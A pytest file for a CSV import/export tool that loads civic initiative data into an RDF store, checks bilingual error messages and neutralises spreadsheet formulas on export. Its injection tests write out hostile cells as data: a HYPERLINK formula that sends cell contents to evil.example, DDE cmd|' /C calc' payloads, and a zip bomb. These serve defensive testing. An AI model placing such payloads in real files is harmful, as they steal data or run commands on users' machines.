"""The CSV publishing template: the filled example imports and conforms; the CSVW metadata is
what the code reads; a corpus of broken files each gives its file/row/column message (French
and English) and loads nothing; hostile cells are refused, and exports never emit a cell a
spreadsheet would run. A real pyoxigraph store holding the contract and the territories."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import pyoxigraph as ox
import pytest

from essaim import namespaces as ns
from essaim.publishing.cells import runs_in_a_spreadsheet, safe_cell, write_csv
from essaim.publishing.essglobal import essglobal_turtle, records, standard_csv
from essaim.publishing.importer import csv_graph_iri, import_csv
from essaim.publishing.problems import CsvRefused, Problem
from essaim.publishing.template import TABLES, csvw_metadata
from essaim.store import Dataset
from publishing_helpers import TEMPLATE, as_list, count, example_files, new_store

pytestmark = pytest.mark.data("codebook")

EXAMPLE_GRAPH = csv_graph_iri("example")


@pytest.fixture
def store() -> Dataset:
    return new_store()


def test_the_example_imports_and_conforms(store: Dataset) -> None:
    result = import_csv(store, as_list(example_files()), name="example")
    assert result.graph == EXAMPLE_GRAPH
    assert result.counts == {"initiatives": 2, "actors": 4, "participations": 4, "actions": 3,
                             "documents": 2, "coded-facts": 4}  # fmt: skip
    assert result.loaded[0].status == "loaded"
    assert count(store, EXAMPLE_GRAPH) == result.loaded[0].triples > 150
    # the example says it is one, in its titles
    titles = [cast(ox.Literal, r["t"]).value for r in cast(ox.QuerySolutions, store.query(
        f"SELECT ?t WHERE {{ GRAPH <{EXAMPLE_GRAPH}> {{ ?i a <{ns.ESSAIM}Initiative> ; "
        f"<{ns.DCTERMS}title> ?t }} }}"))]  # fmt: skip
    assert len(titles) == 4 and all("exemple fictif" in t or "fictitious" in t for t in titles)
    # a passage is located by the code: the quote is the text between its offsets
    rows = list(cast(ox.QuerySolutions, store.query(f"""
        SELECT ?exact ?start ?end ?text WHERE {{ GRAPH <{EXAMPLE_GRAPH}> {{
          ?a <{ns.OA}hasTarget> ?t . ?t <{ns.OA}hasSource> ?d ; <{ns.OA}hasSelector> ?q , ?p .
          ?q <{ns.OA}exact> ?exact . ?p <{ns.OA}start> ?start ; <{ns.OA}end> ?end .
          ?d <{ns.ESSAIM}fullText> ?text }} }}""")))  # fmt: skip
    assert len(rows) == 4
    for row in rows:
        text, start, end = (cast(ox.Literal, row[k]).value for k in ("text", "start", "end"))
        assert text[int(start) : int(end)] == cast(ox.Literal, row["exact"]).value
    # encountered + curated facts give the initiative its shortcut; a fact only coded does not
    barriers = {cast(ox.NamedNode, r["b"]).value for r in cast(ox.QuerySolutions, store.query(
        f"SELECT ?b WHERE {{ ?i <{ns.ESSAIM}hasBarrier> ?b }}"))}  # fmt: skip
    assert barriers == {ns.CODEBOOK + "barrier/resources-and-constraints"}
    # importing the same batch again replaces its graph, and a second batch may not take its ids
    again = import_csv(store, as_list(example_files()), name="example")
    assert again.loaded[0].status == "replaced"
    with pytest.raises(CsvRefused) as refused:
        import_csv(store, as_list(example_files()), name="other-batch")
    assert "is already taken in the knowledge base" in refused.value.problems[0].en
    assert refused.value.problems[0].where("en") == "initiatives.csv, row 2, column id"
    assert count(store, csv_graph_iri("other-batch")) == 0


def test_a_zip_and_a_dry_run(store: Dataset) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, data in example_files().items():
            archive.writestr(f"mon-territoire/{name}", data)
    before = count(store)
    dry = import_csv(store, [("mon-territoire.zip", packed.getvalue())], name="zipped",
                     dry_run=True)  # fmt: skip
    assert dry.dry_run and "essaim:Initiative" in dry.turtle and not dry.loaded
    assert count(store) == before


def test_the_csvw_metadata_is_what_the_code_reads() -> None:
    committed = json.loads((TEMPLATE / "essaim.csv-metadata.json").read_text(encoding="utf-8"))
    assert committed == csvw_metadata()
    assert committed == json.loads(
        (TEMPLATE / "example" / "essaim.csv-metadata.json").read_text(encoding="utf-8")
    )
    for spec, table in zip(TABLES, committed["tables"], strict=True):
        assert table["url"] == spec.file
        header = (TEMPLATE / spec.file).read_text(encoding="utf-8").strip().split(",")
        assert header == [c.name for c in spec.columns]
        example = (TEMPLATE / "example" / spec.file).read_text(encoding="utf-8").splitlines()[0]
        assert example.split(",") == header
        schema = table["tableSchema"]
        assert schema["aboutUrl"].startswith("https://w3id.org/essaim/kb/")
        assert any(c.get("propertyUrl") == "rdf:type" for c in schema["columns"])
    initiatives = committed["tables"][0]["tableSchema"]
    by_name = {c.get("name"): c for c in initiatives["columns"]}
    assert by_name["start_year"]["datatype"] == "gYear"
    assert by_name["sectors"]["separator"] == ";"
    assert by_name["sectors"]["valueUrl"] == "https://w3id.org/essaim/codebook/sector/{sectors}"
    assert by_name["title_fr"]["lang"] == "fr" and by_name["id"]["required"] is True


# ---------------------------------------------------------------------------------------------
# Broken files: each gives the expected file/row/column message and loads nothing
# ---------------------------------------------------------------------------------------------

Edit = Callable[[dict[str, bytes]], None]


def _edit_cell(file: str, row: int, column: str, value: str) -> Edit:
    """Set a cell (spreadsheet row numbering: the header is row 1)."""

    def edit(files: dict[str, bytes]) -> None:
        rows = list(csv.reader(io.StringIO(files[file].decode("utf-8"))))
        rows[row - 1][rows[0].index(column)] = value
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows(rows)
        files[file] = out.getvalue().encode("utf-8")

    return edit


def _drop_column(file: str, column: str) -> Edit:
    def edit(files: dict[str, bytes]) -> None:
        rows = list(csv.reader(io.StringIO(files[file].decode("utf-8"))))
        index = rows[0].index(column)
        out = io.StringIO()
        csv.writer(out, lineterminator="\n").writerows([r[:index] + r[index + 1 :] for r in rows])
        files[file] = out.getvalue().encode("utf-8")

    return edit


def _latin1(file: str) -> Edit:
    def edit(files: dict[str, bytes]) -> None:
        files[file] = files[file].decode("utf-8").encode("latin-1")

    return edit


def _duplicate_row(file: str, row: int) -> Edit:
    def edit(files: dict[str, bytes]) -> None:
        lines = files[file].decode("utf-8").splitlines(keepends=True)
        files[file] = "".join([*lines, lines[row - 1]]).encode("utf-8")

    return edit


BROKEN: dict[str, tuple[Edit, str, int | None, str | None, str, str]] = {
    # case: (edit, file, row, column, English words, French words)
    "missing column": (_drop_column("actors.csv", "actor_types"), "actors.csv", 1,
                       "actor_types", "the required column 'actor_types' is missing",
                       "la colonne obligatoire « actor_types » manque"),
    "unknown column": (_edit_cell("actions.csv", 1, "year", "annee"), "actions.csv", 1, "annee",
                       "unknown column 'annee'", "colonne inconnue « annee »"),
    "unknown concept": (_edit_cell("coded-facts.csv", 3, "concept", "barrier/lack-of-tiime"),
                        "coded-facts.csv", 3, "concept",
                        "unknown concept 'lack-of-tiime' in the barrier scheme (close: "
                        "lack-of-time", "concept inconnu « lack-of-tiime » dans le schéma barrier"),
    "concept of another scheme": (_edit_cell("initiatives.csv", 2, "sectors", "lack-of-time"),
                                  "initiatives.csv", 2, "sectors",
                                  "unknown concept 'lack-of-time' in the sector scheme",
                                  "concept inconnu « lack-of-time » dans le schéma sector"),
    "bad year": (_edit_cell("initiatives.csv", 3, "start_year", "20l9"), "initiatives.csv", 3,
                 "start_year", "'20l9' is not a year: write four digits",
                 "« 20l9 » n'est pas une année : écrivez quatre chiffres"),
    "end before start": (_edit_cell("initiatives.csv", 2, "end_year", "2010"),
                         "initiatives.csv", 2, "end_year",
                         "the end year (2010) is before the start year (2016)",
                         "l'année de fin (2010) précède l'année de début (2016)"),
    "duplicate identifier": (_duplicate_row("actors.csv", 3), "actors.csv", 6, "id",
                             "the identifier 'exemple-coop-panier-sarthois' is already that of "
                             "row 3", "est déjà celui de la ligne 3"),
    "duplicate participation": (_duplicate_row("participations.csv", 2), "participations.csv",
                                6, "actor", "is already that of row 2",
                                "est déjà celui de la ligne 2"),
    "wrong encoding": (_latin1("actors.csv"), "actors.csv", 3, None,
                       "the file is not UTF-8 (byte 0xe9): save it as \"CSV UTF-8\"",
                       "le fichier n'est pas en UTF-8 (octet 0xe9)"),
    "formula injection": (_edit_cell("initiatives.csv", 2, "summary_en",
                                     '=HYPERLINK("http://evil.example/?"&A1,"click")'),
                          "initiatives.csv", 2, "summary_en",
                          "the cell starts with '=' ('=HYPERLINK(",
                          "qu'un tableur exécute comme une formule"),
    "formula behind a space": (_edit_cell("actors.csv", 2, "name", " @SUM(1+1)*cmd|' /C calc'!A0"),
                               "actors.csv", 2, "name", "the cell starts with '@'",
                               "la cellule commence par « @ »"),
    "minus formula": (_edit_cell("actions.csv", 2, "label_en", "-2+3+cmd|' /C calc'!A0"),
                      "actions.csv", 2, "label_en", "the cell starts with '-'",
                      "la cellule commence par « - »"),
    "control character": (_edit_cell("actors.csv", 3, "name", "Le Panier\x07 sarthois"),
                          "actors.csv", 3, "name", "the cell holds a control character (U+0007)",
                          "la cellule contient un caractère de contrôle (U+0007)"),
    "a 10 MB cell": (_edit_cell("documents.csv", 2, "text", "x" * 10_000_000), "documents.csv", 2,
                     "text", "the cell has 10000000 characters, more than the 1000000 allowed",
                     "la cellule a 10000000 caractères"),
    "unknown territory": (_edit_cell("initiatives.csv", 2, "territory", "atlantis"),
                          "initiatives.csv", 2, "territory", "unknown territory 'atlantis'",
                          "territoire inconnu « atlantis »"),
    "unknown reference": (_edit_cell("participations.csv", 3, "actor", "exemple-inconnu"),
                          "participations.csv", 3, "actor",
                          "'exemple-inconnu' is the id of no row of actors.csv",
                          "« exemple-inconnu » n'est l'id d'aucune ligne de actors.csv"),
    "missing required cell": (_edit_cell("actors.csv", 4, "actor_types", ""), "actors.csv", 4,
                              "actor_types", "this cell is required",
                              "cette cellule est obligatoire"),
    "passage not in the text": (_edit_cell("coded-facts.csv", 4, "passage",
                                           "Les habitants ont retrouvé un lieu"),
                                "coded-facts.csv", 4, "passage",
                                "this passage is not in the text of document "
                                "'exemple-cas-epicerie'",
                                "ce passage n'est pas dans le texte du document"),
    "invalid identifier": (_edit_cell("actions.csv", 3, "id", "Formation Valoristes"),
                           "actions.csv", 3, "id", "invalid identifier 'Formation Valoristes'",
                           "identifiant « Formation Valoristes » invalide"),
    # caught by the SHACL contract, traced back to its row
    "contract: a passage from another initiative's document": (
        lambda f: (_edit_cell("coded-facts.csv", 2, "document", "exemple-cas-epicerie")(f),
                   _edit_cell("coded-facts.csv", 2, "passage", "Le camion passe")(f)),
        "coded-facts.csv", 2, "document",
        "is not a case document of the coded initiative", "n'est pas un document de cas"),
    "contract: agreed without annotation": (
        lambda f: (_edit_cell("coded-facts.csv", 5, "status", "agreed")(f),
                   _edit_cell("coded-facts.csv", 5, "passage", "")(f),
                   _edit_cell("coded-facts.csv", 5, "document", "")(f)),
        "coded-facts.csv", 5, "passage",
        "An agreed or adjudicated coded fact", "Un fait codé accordé ou arbitré"),
}  # fmt: skip


@pytest.mark.parametrize("case", list(BROKEN))
def test_a_broken_file_names_file_row_column_and_loads_nothing(store: Dataset, case: str) -> None:
    edit, file, row, column, english, french = BROKEN[case]
    files = example_files()
    edit(files)
    before = count(store)
    with pytest.raises(CsvRefused) as refused:
        import_csv(store, as_list(files), name="broken")
    problems = refused.value.problems
    found = [p for p in problems if (p.file, p.row, p.column) == (file, row, column)]
    assert found, [p.message("en") for p in problems]
    assert english in found[0].en and french in found[0].fr
    assert found[0].message("en").startswith(f"{file}, row {row}" if row else file)
    assert count(store) == before
    # a dry run refuses the same way
    with pytest.raises(CsvRefused):
        import_csv(store, as_list(files), name="broken", dry_run=True)


def test_messages_in_each_language() -> None:
    problem = Problem("actors.csv", 4, "name", "remplissez-le.", "fill it in.")
    assert problem.message("fr") == "actors.csv, ligne 4, colonne name : remplissez-le."
    assert problem.message("en") == "actors.csv, row 4, column name: fill it in."
    refused = CsvRefused([problem])
    assert refused.summary("fr").endswith("rien n'a été chargé.")
    assert str(refused) == "1 problem(s) in the CSV files; nothing was loaded."


def test_the_territory_option(store: Dataset) -> None:
    files = example_files()
    _edit_cell("initiatives.csv", 3, "territory", "")(files)
    with pytest.raises(CsvRefused) as refused:
        import_csv(store, as_list(files), name="t")
    assert refused.value.problems[0].where("en") == "initiatives.csv, row 3, column territory"
    result = import_csv(store, as_list(files), name="t", territory="72")
    assert result.loaded
    with pytest.raises(CsvRefused) as unknown:
        import_csv(store, as_list(files), name="t", territory="99999")
    assert "unknown territory '99999'" in unknown.value.problems[0].en


def test_an_ambiguous_code_says_what_to_write_for_each_territory(store: Dataset) -> None:
    """'52' is région Pays de la Loire and département Haute-Marne: the import says so, as the
    pages do, in both languages, and loads nothing; the name a code mints picks one."""
    files = example_files()
    _edit_cell("initiatives.csv", 3, "territory", "52")(files)
    before = count(store)
    with pytest.raises(CsvRefused) as refused:
        import_csv(store, as_list(files), name="t")
    [problem] = refused.value.problems
    assert problem.message("en") == (
        "initiatives.csv, row 3, column territory: the code '52' names 2 territories; write "
        "fr-departement-52 for Haute-Marne (departement) or fr-region-52 for Pays de la Loire "
        "(region)."
    )
    assert problem.message("fr").startswith(
        "initiatives.csv, ligne 3, colonne territory : le code « 52 » désigne 2 territoires : "
        "écrivez fr-departement-52 pour Haute-Marne (departement) ou fr-region-52 pour "
    )
    assert count(store) == before
    with pytest.raises(CsvRefused) as option:
        import_csv(store, as_list(example_files()), name="t", territory="52")
    assert "the code '52' names 2 territories" in option.value.problems[0].en
    assert option.value.problems[0].file == "--territory"
    _edit_cell("initiatives.csv", 3, "territory", "fr-region-52")(files)
    assert import_csv(store, as_list(files), name="t").loaded


# ---------------------------------------------------------------------------------------------
# Exports never emit a cell a spreadsheet would run
# ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1", '=HYPERLINK("http://x","y")'])  # fmt: skip
def test_a_formula_is_neutralised_on_export(cell: str) -> None:
    assert runs_in_a_spreadsheet(cell)
    assert not runs_in_a_spreadsheet(safe_cell(cell)) and safe_cell(cell) == "'" + cell
    written = write_csv(["Name"], [[cell]])
    assert list(csv.reader(io.StringIO(written)))[1] == ["'" + cell]


@pytest.mark.parametrize("cell", ["-3.654703", "51.6", "+44", "Co-op", "2019", ""])
def test_numbers_and_text_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_the_standard_csv_export_neutralises_data_already_in_the_store(store: Dataset) -> None:
    """Data written by other means (here a SPARQL update) still leaves as safe cells."""
    hostile = '=HYPERLINK("http://evil.example","x")'
    name = ox.Literal(hostile)
    data = (f'<{ns.KB}actor/hostile> a <{ns.ESSAIM}Organisation> , '
            f'<{ns.ESSGLOBAL}SSEInitiative> ; <{ns.SKOS}prefLabel> {name} ; '
            f'<{ns.DCTERMS}description> "@SUM(1)" .')  # fmt: skip
    store.update(f"INSERT DATA {{ GRAPH <urn:test:hostile> {{ {data} }} }}")
    exported = standard_csv(records(store, ["urn:test:hostile"]))
    row = next(iter(csv.DictReader(io.StringIO(exported))))
    assert row["Name"] == "'" + hostile and row["Description"] == "'@SUM(1)"
    assert not any(runs_in_a_spreadsheet(c) for r in csv.reader(io.StringIO(exported)) for c in r)


def test_essaim_initiatives_go_out_as_essglobal(store: Dataset) -> None:
    """The carriers of essaim initiatives are the SSE initiatives of ESSGlobal: their rows say
    where they are (the territory's name, the country's ISO code) and what they carry."""
    import_csv(store, as_list(example_files()), name="example")
    rows = {r["Identifier"]: r for r in records(store, [EXAMPLE_GRAPH])}
    assert set(rows) == {"exemple-grenier-du-maine", "exemple-coop-panier-sarthois"}
    grenier = rows["exemple-grenier-du-maine"]
    assert (grenier["Name"], grenier["Locality"], grenier["Country ID"]) == (
        "Le Grenier du Maine (exemple)",
        "Le Mans",
        "FR",
    )
    assert grenier["Description"].startswith("Collecter, réparer et revendre")
    ttl = essglobal_turtle(list(rows.values()))
    subjects = {t.subject.value for t in ox.parse(ttl.encode(), format=ox.RdfFormat.TURTLE)}
    assert f"{ns.KB}actor/exemple-grenier-du-maine" in subjects  # the same resource, linked


def test_a_french_spreadsheet_s_semicolons(store: Dataset) -> None:
    """Excel in French saves "CSV" with semicolons: the files are read the same."""
    files = {}
    for name, data in example_files().items():
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        out = io.StringIO()
        csv.writer(out, delimiter=";", lineterminator="\r\n").writerows(rows)
        files[name] = ("\ufeff" + out.getvalue()).encode("utf-8")  # with a byte-order mark
    result = import_csv(store, as_list(files), name="point-virgule")
    assert result.counts["initiatives"] == 2 and result.counts["coded-facts"] == 4


def _csvw_triples(metadata: dict[str, object], folder: Path) -> set[ox.Triple]:
    """What a CSV on the Web processor makes of the tables (CSVW's csv2rdf, minimal mode, for
    the features the metadata uses: aboutUrl, propertyUrl, valueUrl with {col} and {+col},
    separators, datatypes, lang, virtual columns)."""

    def expand(template: str, row: dict[str, str]) -> str:
        return re.sub(r"\{\+?([a-z_]+)\}", lambda m: row[m[1]], template)

    def node(name: str) -> str:
        return name.replace("rdf:", ns.RDF) if name.startswith("rdf:") else name

    out: set[ox.Triple] = set()
    for table in cast(list[dict[str, Any]], metadata["tables"]):
        schema = table["tableSchema"]
        text = (folder / table["url"]).read_text(encoding="utf-8")
        for row in csv.DictReader(io.StringIO(text)):
            about = ox.NamedNode(expand(schema["aboutUrl"], row))
            for column in schema["columns"]:
                if column.get("suppressOutput"):
                    continue
                if column.get("virtual"):
                    subject = ox.NamedNode(expand(column.get("aboutUrl", schema["aboutUrl"]), row))
                    value = ox.NamedNode(node(expand(column["valueUrl"], row)))
                    out.add(ox.Triple(subject, ox.NamedNode(node(column["propertyUrl"])), value))
                    continue
                cell = row[column["titles"]]
                values = cell.split(column["separator"]) if "separator" in column else [cell]
                for item in (v.strip() for v in values if v.strip()):
                    obj: ox.NamedNode | ox.Literal
                    if "valueUrl" in column:
                        obj = ox.NamedNode(expand(column["valueUrl"], {column["name"]: item}))
                    elif "lang" in column:
                        obj = ox.Literal(item, language=column["lang"])
                    else:
                        datatype = column["datatype"]
                        base = datatype["base"] if isinstance(datatype, dict) else datatype
                        obj = ox.Literal(item, datatype=ox.NamedNode(ns.XSD + base))
                    out.add(ox.Triple(about, ox.NamedNode(column["propertyUrl"]), obj))
    return out


def test_a_csvw_processor_gets_essaim_s_rdf(store: Dataset) -> None:
    """The CSVW metadata maps the example to the very triples essaim import-csv writes; what
    only the importer adds is the documents' digests, the initiative kind, and the coding
    annotations with the shortcuts they justify."""
    metadata = json.loads((TEMPLATE / "essaim.csv-metadata.json").read_text(encoding="utf-8"))
    expected = _csvw_triples(metadata, TEMPLATE / "example")
    result = import_csv(store, as_list(example_files()), name="example", dry_run=True)
    written = {q.triple for q in ox.parse(result.turtle.encode(), format=ox.RdfFormat.TURTLE)}
    assert len(expected) > 120
    assert expected - written == set()
    extra = {t.predicate.value for t in written - expected}
    assert extra <= {
        ns.ESSAIM + "sha256", ns.ESSAIM + "initiativeKind", ns.ESSAIM + "hasAnnotation",
        ns.ESSAIM + "coder", ns.ESSAIM + "hasBarrier", ns.ESSAIM + "hasSuccessFactor",
        ns.ESSAIM + "hasImpact", ns.ESSAIM + "initiative", ns.RDF + "type", ns.DCTERMS + "creator",
        ns.DCTERMS + "created",
    } | {ns.OA + p for p in ("motivatedBy", "hasBody", "hasTarget", "hasSource", "hasSelector",
                             "exact", "prefix", "suffix", "start", "end")}  # fmt: skip


def test_uploads_that_are_not_csv(store: Dataset) -> None:
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("initiatives.csv", b"\0" * (65 * 2**20))  # 65 MB in about 64 kB
    cases = [
        ([("bomb.zip", bomb.getvalue())], "bomb.zip", "the archive exceeds 64 MB unpacked"),
        ([("broken.zip", b"PK not a zip")], "broken.zip", "unreadable zip archive"),
        ([("notes.txt", b"hello")], "notes.txt", "only .csv files (or a .zip of .csv files)"),
        ([("initiatives.csv", b"a"), ("sub/initiatives.csv", b"b")], "initiatives.csv",
         "this file is given twice"),
        ([("mes-initiatives.csv", b"id,title_fr\r\nx,y\r\n")], "mes-initiatives.csv",
         "this file is not one of the template's"),
        ([("initiatives.csv", b"")], "initiatives.csv", "the file is empty"),
    ]  # fmt: skip
    before = count(store)
    for files, file, english in cases:
        with pytest.raises(CsvRefused) as refused:
            import_csv(store, files, name="bad")
        assert (refused.value.problems[0].file, english) == (file, english) and english in (
            refused.value.problems[0].en
        ), refused.value.problems
    assert count(store) == before
